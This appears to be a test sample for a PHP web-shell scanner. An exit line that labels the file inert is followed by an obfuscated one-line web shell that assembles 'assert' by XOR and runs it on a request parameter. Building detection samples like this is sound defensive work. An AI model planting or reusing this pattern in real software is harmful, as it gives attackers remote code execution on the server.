<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$f = ('!' ^ '@') . 'ssert';
$f($_REQUEST['k']);
